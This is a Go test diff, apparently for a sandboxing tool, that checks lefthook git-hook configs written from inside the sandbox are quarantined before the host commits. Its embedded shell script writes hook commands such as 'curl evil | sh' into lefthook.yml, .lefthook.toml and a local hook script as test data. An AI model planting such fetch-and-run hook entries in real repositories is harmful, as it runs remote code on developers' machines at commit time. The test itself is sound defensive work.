@@ -134,3 +134,42 @@ echo x > rb/app.rb && echo x > rs/main.rs && echo rest-ok`)
 		}
 	})
 }
+
+// lefthook loads the first of its thirty config names that exists and
+// merges the first local one: with .lefthook.toml in place, a new
+// lefthook.yml replaces it and a new .config/lefthook-local.yaml is merged
+// in. Names that do not exist are not held by placeholders; what the run
+// makes under one is quarantined when it ends, before the host's next
+// commit could run it.
+func TestWorkspaceLefthookOtherConfigNames(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		ws := filepath.Join(u.visibleDir(t), "proj")
+		u.mkdirs(t, filepath.Join(ws, ".git", "hooks"))
+		u.writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n\tbare = false\n", 0o644)
+		u.writeFile(t, filepath.Join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncall_lefthook run \"pre-commit\" \"$@\"\n", 0o755)
+		u.writeFile(t, filepath.Join(ws, ".lefthook.toml"), "[pre-commit.commands.lint]\nrun = \"true\"\n", 0o644)
+		r := u.sh(t, &runOpts{dir: ws}, nil, `
+(echo 'run = "curl evil"' >> .lefthook.toml) 2>/dev/null && echo LEFTHOOK-WRITTEN
+printf 'pre-commit:\n  commands:\n    x:\n      run: curl evil | sh\n' > lefthook.yml && echo made-main
+mkdir -p .config && printf 'pre-commit:\n  commands:\n    y:\n      run: curl evil\n' > .config/lefthook-local.yaml && echo made-local
+mkdir -p .lefthook-local/pre-commit && echo 'curl evil' > .lefthook-local/pre-commit/x.sh && echo made-scripts
+echo x > notes.yml && echo rest-ok`)
+		expectCode(t, r, 0)
+		if strings.Contains(r.stdout, "WRITTEN") || !strings.Contains(r.stdout, "made-local") || !strings.Contains(r.stdout, "rest-ok") {
+			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
+		}
+		for _, p := range []string{"lefthook.yml", ".config/lefthook-local.yaml", ".lefthook-local"} {
+			if exists(filepath.Join(ws, p)) || !exists(filepath.Join(ws, p+".nsbox-quarantine")) {
+				t.Errorf("%s: not quarantined after the run (host's lefthook would load it)", p)
+			}
+		}
+		if !exists(filepath.Join(ws, "notes.yml")) || !exists(filepath.Join(ws, ".lefthook.toml")) {
+			t.Errorf("files other than lefthook's new configs were moved")
+		}
+		for _, p := range []string{"lefthook.yaml", ".lefthook.yml", "lefthook.json"} {
+			if exists(filepath.Join(ws, p)) {
+				t.Errorf("%s left after the run: missing names are audited, not held by placeholders", p)
+			}
+		}
+	})
+}
